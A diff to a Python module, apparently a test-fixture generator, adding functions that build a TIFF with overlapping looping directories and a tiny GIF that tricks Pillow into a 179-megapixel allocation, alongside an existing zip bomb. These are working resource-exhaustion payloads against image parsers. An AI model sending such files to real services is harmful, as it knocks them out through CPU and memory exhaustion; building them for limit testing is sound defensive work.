@@ -150,3 +150,24 @@ def zip_bomb(path, members, bomb_name="a_bomb.png", bomb_bytes=4_500_000_000):
         f.write(directory)
         f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(directory), start, 0))
     return path
+
+
+def tiff_directory_spin(directories=1024, entries=65535):
+    """A 790 KB TIFF of `directories` image directories that overlap, each claiming `entries` entries: a
+    header walk that reads every entry makes 67 million steps (71 s) before it ends."""
+    span = 2 + 12 * entries
+    data = bytearray(b"II*\x00" + struct.pack("<I", 8) + bytes(4 * directories + span + 8))
+    for i in range(directories):
+        at = 8 + 4 * i
+        struct.pack_into("<H", data, at, entries)
+        struct.pack_into("<I", data, at + span, at + 4 if i + 1 < directories else 0)
+    return bytes(data)
+
+
+def gif_canvas_bomb(screen=(255, 65535), frame=(2730, 1)):
+    """A 119-byte GIF: a `screen` logical screen and one `frame`-sized frame. Each passes a 16-megapixel
+    budget alone; Pillow allocates the union, the frame's width times the screen's height (179 megapixels)."""
+    head = b"GIF89a" + struct.pack("<HH", *screen) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
+    descriptor = b"\x2c" + struct.pack("<HHHH", 0, 0, *frame) + b"\x00"
+    pixels = b"\x02" + b"\x02\x4c\x01\x00"  # LZW code size 2, one sub-block, end
+    return head + descriptor + pixels + b"\x3b"
